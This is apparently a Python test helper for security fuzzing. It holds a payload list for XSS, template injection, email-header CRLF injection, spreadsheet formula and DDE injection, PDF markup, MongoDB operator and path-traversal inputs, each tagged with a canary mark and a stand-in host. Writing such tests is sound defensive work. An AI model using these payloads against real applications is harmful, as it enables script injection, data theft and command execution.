"""What a hostile hand types: each text tries to become something else than text, wherever it may be read again.

« {c} » is the mark of the field it is typed in, by which a text is found again: it stands near the beginning, for long
texts are shown cut. Whatever a text would make bears the name « canari », or asks canari.exemple for something.
"""

import re
import unicodedata
from typing import Final

_GABARITS: Final = {
    "script": '{c}<script src="https://canari.exemple/{c}.js">canari()</script>',
    "fin de script": "{c}</script></title></textarea></style><svg/onload=canari()>",
    "image": "{c}<img src=https://canari.exemple/{c} onerror=canari()>",
    "commentaire": "{c}--><canari>{c}</canari><!--",
    "attribut": '{c}" onmouseover="canari()" autofocus onfocus="canari()" canari="',
    "apostrophe": "{c}' onmouseover='canari()' canari='",
    "sans guillemets": "{c} onmouseover=canari() canari=1 x",
    "adresse de script": "javascript:canari('{c}')//",
    "adresse à blancs": "jAvA\tscript&colon;canari('{c}')",
    "adresse de données": "data:text/html;base64,{c}PGNhbmFyaT4=",
    "autre site": "//canari.exemple/{c}",
    "autre site, de travers": "/\\canari.exemple/{c}",
    "gabarit": "{c}{{1357*2468}}{% for canari in range(9) %}${1357*2468}#{1357*2468}",
    "en-tête": "{c}\r\nBcc: canari@canari.exemple\r\nSet-Cookie: canari=1\r\n\r\n<canari>",
    "fin de ligne seule": "{c}\nBcc: canari@canari.exemple\rX-Canari: 1",
    "fin de ligne déguisée": "{c}\u2028Bcc: canari@canari.exemple\x85X-Canari: 1\x0b\x0c",
    "mot codé": "=?utf-8?q?{c}=0D=0ABcc:_canari@canari.exemple?=",
    "deux adresses": "{c}@exemple.fr, canari@canari.exemple",
    "nom et adresse": '"{c}" <canari@canari.exemple>',
    "sens de lecture": "{c}\u202egpj\u202c\u2066\u200b.exe",
    "contrôle": "{c}\x1b]0;canari\x07\x08\x7f",
    "nul": "{c}\x00<canari>",
    "formule": '=HYPERLINK("https://canari.exemple/{c}","{c}")',
    "formule plus": "+1+cmd|'/C canari'!A0{c}",
    "formule moins": "-2+3+{c}",
    "formule arobase": "@SUM(1+1)*{c}",
    "formule après blanc": " \t=1+1+{c}",
    "formule après retour": "\r=1+1+{c}",
    "formule pleine chasse": "\uff1d1+1+{c}",
    "formule de liaison": '=DDE("cmd";"/C canari";"{c}")',
    "reportlab": '{c}<b>gras</b><img src="https://canari.exemple/x.png"/><a href="https://canari.exemple">canari</a>',
    "reportlab ouvert": '{c}</para><para backColor="red"><font color="red">&nbsp;&#60;canari&#62;',
    "opérateurs PDF": "{c}) Tj ET /URI (https://canari.exemple) /JS (canari) >> endobj",
    "opérateur Mongo": '{"$ne": "{c}", "$where": "canari"}',
    "chemin": "../../../{c}/..\\..\\con.pdf",
    "chemin codé": "..%2f..%2f{c}%00%0d%0aBcc:%20canari",
    "tout à la fois": (
        "{c}\"'></script></title></textarea><img src=//canari.exemple/{c} onerror=canari()><svg/onload=canari()>"
        "<script>canari()</script>{{1357*2468}}<a href=javascript:canari() onclick=canari()>\n\r=1+1"
    ),
    "très long": "{c}" + "A" * 40_000,
}
_ALPHABET: Final = "ABCDEFGHJKLMNPQRSTUVWXYZ"

VECTEURS: Final = tuple(_GABARITS)
CALCUL: Final = str(1357 * 2468)  # what a template engine would make of it


def marque(rang: int) -> str:
    """Make the mark of a field: letters alone, which every alphabet and every font has."""
    return f"zq{_ALPHABET[rang // len(_ALPHABET)]}{_ALPHABET[rang % len(_ALPHABET)]}qz"


def vecteur(nom: str, signe: str) -> str:
    """Give a text, with the mark of its field."""
    return _GABARITS[nom].replace("{c}", signe)


def en_adresse(texte: str) -> str:
    """Make of a text the address that is most like it."""
    return re.sub(r"[^A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]", "", texte)[:60] + "@exemple.fr"


def sur_une_ligne(texte: str) -> str:
    """Make of a text the line that is most like it: what contracts hold has no control character, and 300 at most."""
    visible = "".join(" " if unicodedata.category(signe) in {"Cc", "Zl", "Zp"} else signe for signe in texte)
    return unicodedata.normalize("NFC", visible).strip()[:300]


def essence(texte: str) -> str:
    """Keep of a text what no page nor paper may lose of it: neither blanks, nor signs that nobody sees."""
    simple = unicodedata.normalize("NFKC", texte).casefold()
    return "".join(signe for signe in simple if unicodedata.category(signe)[0] not in "CZ" and signe != "\ufffd")


def debut(texte: str) -> str:
    """Give the beginning of a text, by which it is known wherever it is shown, cut or not."""
    return essence(texte)[:50]
